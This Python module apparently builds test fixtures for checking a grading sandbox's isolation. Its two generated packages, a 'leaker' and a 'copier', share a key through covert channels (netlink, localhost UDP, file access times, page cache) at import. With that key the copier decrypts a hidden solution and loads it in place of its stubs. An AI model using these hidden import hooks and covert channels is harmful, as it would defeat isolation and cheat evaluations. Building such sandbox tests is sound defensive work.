"""Two students who share one working solution through the grading machine, as data.

The *leaker* is the reference plus code run at every import of its package: it hands
a 64-bit key to whoever listens, by every channel the issue found between two
children -- netlink datagrams to agreed port ids (and to a listener of the test),
UDP to a listener of the test, the access times of old readable files, and the page
cache of readable files (evicted, then loaded for the 1 bits; asked with cachestat).
The files are numpy's (visible in the sandbox's private root, which must then stop
both channels by itself: noatime, and seccomp's page-cache rules) and the system's
documentation (which the private root hides).  The *copier* is the
stubs plus a reference-quality solution it carries only encrypted with that key; at
import it tries every channel for the key, and with it decrypts and runs the
solution in place of its stubs.  Without the key the copier *is* the stubs (its
honest twin, 0 points); with it, full marks.  So any channel that works shows as
points, whether the two are graded at the same time or one after the other.

A key is a block of 65 files: a marker (read) and 64 bits (read for a 1).  A block
whose marker has a recent access time was written; a file whose access time is older
than a day, or not newer than its content, is still unused (``relatime`` stamps it at
the next read).  Every step is bounded and fails quietly: the leaker must keep full
marks, and the copier stays its honest twin when nothing arrives.
"""
import base64
import hashlib
import json
import zlib
from pathlib import Path

from grader_support import SOLUTIONS, make_stubs
from hostile import apply_hostile, at_import

PORT_BASE = 0x4E4E3000   # netlink port ids the two agree on: PORT_BASE .. PORT_BASE + 3
WAIT = 1.0               # seconds a copier's import listens on netlink (only if it can)
BITS = 64

# Shared by both sides: where the files of a block are, and how to read a block.
COMMON = '''
import os as _os, time as _time, hashlib as _hashlib, sys as _sys
_NOW = _time.time()


def _usable_files():
    """Old files a child can read, as (the page-cache block, the access-time blocks):
    numpy's type stubs, headers and Cython declarations (read by no import, and in the
    private root), then the system's documentation (not in it)."""
    import numpy as _np
    _numpy = []
    for _d, _subs, _files in _os.walk(_os.path.dirname(_np.__file__)):
        _subs[:] = sorted(_s for _s in _subs if _s not in ("tests", "f2py", "distutils"))
        _numpy += [_os.path.join(_d, _f) for _f in sorted(_files)
                   if _f.endswith((".pyi", ".pxd", ".h"))]
    _docs = []
    for _d, _subs, _files in _os.walk("/usr/share/doc"):
        _subs.sort()
        _docs += [_os.path.join(_d, _f) for _f in sorted(_files)]
    _numpy, _docs = [[_n for _n in _names if _os.path.isfile(_n) and not _os.path.islink(_n)
                      and _os.path.getsize(_n) > 0] for _names in (_numpy, _docs)]
    return _numpy[:BITS + 1], _docs + _numpy[BITS + 1:]


def _stat(_path):
    try:
        return _os.stat(_path)
    except OSError:
        return None


def _unused(_path):
    _s = _stat(_path)
    return _s is not None and (_s.st_atime <= _s.st_mtime or _s.st_atime < _NOW - 86400)


def _recent(_path):
    _s = _stat(_path)
    return _s is not None and _s.st_atime > _s.st_mtime and _s.st_atime > _NOW - 3600


def _blocks(_files):
    return [_files[_i:_i + BITS + 1] for _i in range(0, len(_files) - BITS, BITS + 1)]


def _latest_block(_files):
    """The bits of the block written last (the most recent marker), or None."""
    _best = None
    for _block in _blocks(_files):
        if _recent(_block[0]):
            _when = _os.stat(_block[0]).st_atime
            if _best is None or _when > _best[0]:
                _best = (_when, _block)
    if _best is None:
        return None
    return sum(1 << _i for _i, _f in enumerate(_best[1][1:]) if _recent(_f)).to_bytes(8, "little")


def _read(_path):
    try:
        with open(_path, "rb") as _f:
            _f.read(4096)
    except OSError:
        pass


def _to_cache(_files, _key):
    """The page cache: evict the whole block, then load the 1 bits."""
    _bits = int.from_bytes(_key, "little")
    for _i, _f in enumerate(_files[1:]):
        try:
            _fd = _os.open(_f, _os.O_RDONLY)
        except OSError:
            continue
        try:
            _os.posix_fadvise(_fd, 0, 0, _os.POSIX_FADV_DONTNEED)
        except OSError:
            pass
        finally:
            _os.close(_fd)
        if _bits >> _i & 1:
            _read(_f)
'''.replace("BITS", str(BITS))


def leaker_code(key: bytes, udp_port: int, netlink_port: int) -> str:
    return COMMON + f'''
_KEY = {key!r}


def _leak():
    _cache, _atime = _usable_files()
    # access times: a fresh block, unless the last one written already holds the key
    if _latest_block(_atime) != _KEY:
        for _block in _blocks(_atime):
            if all(_unused(_f) for _f in _block):
                _bits = int.from_bytes(_KEY, "little")
                for _i, _f in enumerate(_block):
                    if _i == 0 or _bits >> (_i - 1) & 1:
                        _read(_f)
                break
    _to_cache(_cache, _KEY)
    import socket as _socket
    try:  # netlink datagrams: to the copier's agreed ports, to the test's listener
        _s = _socket.socket(_socket.AF_NETLINK, _socket.SOCK_RAW, 2)  # NETLINK_USERSOCK
        for _port in [{PORT_BASE} + _i for _i in range(4)] + [{netlink_port}]:
            try:
                _s.sendto(b"NN100KEY" + _KEY, (_port, 0))
            except OSError:
                pass
        _s.close()
    except OSError:
        pass
    try:
        _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
        _s.sendto(b"NN100KEY" + _KEY, ("127.0.0.1", {udp_port}))
        _s.close()
    except OSError:
        pass


try:
    _leak()
except Exception:
    pass
'''


CHANNELS = ("atime", "cache", "netlink")  # the copier's order: the two instant ones first


def copier_code(blob: bytes, check: str, channels=CHANNELS) -> str:
    return COMMON + f'''
import importlib.abc as _abc, importlib.util as _util, json as _json, zlib as _zlib
import base64 as _base64
_BLOB = _base64.b64decode({base64.b64encode(blob).decode()!r})


def _decrypt(_key):
    """The sources, from the key or from the key with one bit flipped (a noisy channel
    is still a channel when a wrong key can be told from the right one)."""
    if not _key or len(_key) != 8:
        return None
    _bits = int.from_bytes(_key, "little")
    for _flip in [0] + [1 << _i for _i in range(64)]:
        _try = (_bits ^ _flip).to_bytes(8, "little")
        _stream = b"".join(_hashlib.sha256(_try + _i.to_bytes(4, "little")).digest()
                           for _i in range(len(_BLOB) // 32 + 1))[:len(_BLOB)]
        _plain = (int.from_bytes(_BLOB, "little") ^ int.from_bytes(_stream, "little")
                  ).to_bytes(len(_BLOB), "little")
        if _hashlib.sha256(_plain).hexdigest() == {check!r}:
            return _try, _json.loads(_zlib.decompress(_plain))
    return None


def _from_cache(_files):
    """Which files of the block are cached: cachestat(2), else a read that must not wait
    for the disk (for a file the caller may not write, the kernel makes mincore(2)
    answer "all" and cachestat fail; a RWF_NOWAIT read still starts the read-ahead,
    so the copier writes the block back once it has a key)."""
    import ctypes as _c
    _libc = _c.CDLL(None, use_errno=True)
    _libc.syscall.restype = _c.c_long
    _bits = 0
    for _i, _f in enumerate(_files[1:]):
        _fd = _os.open(_f, _os.O_RDONLY)
        try:
            _range, _stat = (_c.c_uint64 * 2)(0, 4096), (_c.c_uint64 * 5)()
            if _libc.syscall(451, _fd, _c.byref(_range), _c.byref(_stat), 0) == 0:
                _cached = _stat[0] > 0
            else:
                try:
                    _os.preadv(_fd, [bytearray(1)], 0, _os.RWF_NOWAIT)
                    _cached = True
                except BlockingIOError:
                    _cached = False
            _bits |= _cached << _i
        finally:
            _os.close(_fd)
    return _bits.to_bytes(8, "little")


def _from_netlink():
    import socket as _socket
    _s = _socket.socket(_socket.AF_NETLINK, _socket.SOCK_RAW, 2)
    for _i in range(4):
        try:
            _s.bind(({PORT_BASE} + _i, 0))
            break
        except OSError:
            continue
    else:
        return None
    _s.settimeout({WAIT})
    try:
        _data = _s.recv(256)
    except OSError:
        return None
    finally:
        _s.close()
    return _data[8:16] if _data.startswith(b"NN100KEY") else None


def _sources():
    _cache, _atime = _usable_files()
    _ways = {{"atime": lambda: _latest_block(_atime), "cache": lambda: _from_cache(_cache),
             "netlink": _from_netlink}}
    for _try in [_ways[_name] for _name in {list(channels)!r}]:
        try:
            _found = _decrypt(_try())
        except Exception:
            _found = None
        if _found:
            _to_cache(_cache, _found[0])  # as the leaker left it, for the next unit
            return _found[1]
    return None


class _Copied(_abc.MetaPathFinder, _abc.Loader):
    def __init__(self, _sources):
        self.sources = _sources

    def find_spec(self, name, path=None, target=None):
        if name in self.sources:
            return _util.spec_from_loader(name, self)
        return None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(compile(self.sources[module.__name__], module.__name__, "exec"), module.__dict__)


_FOUND = _sources()
if _FOUND:
    _sys.meta_path.insert(0, _Copied(_FOUND))
'''


def encrypt(key: bytes) -> tuple[bytes, str]:
    """The reference's modules, compressed and encrypted with ``key``, and the digest
    the copier checks a decryption against."""
    sources = {f"nn100.{p.stem}": p.read_text() for p in sorted(SOLUTIONS.glob("*.py"))
               if p.stem != "__init__"}
    plain = zlib.compress(json.dumps(sources).encode(), 9)
    stream = b"".join(hashlib.sha256(key + i.to_bytes(4, "little")).digest()
                      for i in range(len(plain) // 32 + 1))
    return bytes(a ^ b for a, b in zip(plain, stream, strict=False)), \
        hashlib.sha256(plain).hexdigest()


def write_leaker(root: Path, key: bytes, udp_port: int, netlink_port: int) -> Path:
    return apply_hostile(("leaker", [at_import(leaker_code(key, udp_port, netlink_port))]),
                         root)


def write_copier(root: Path, key: bytes, channels=CHANNELS) -> Path:
    """The stubs, with the copier's code run first thing at import."""
    make_stubs(root)
    init = Path(root) / "nn100" / "__init__.py"
    blob, check = encrypt(key)
    init.write_text(copier_code(blob, check, channels) + "\n" + init.read_text())
    return Path(root)
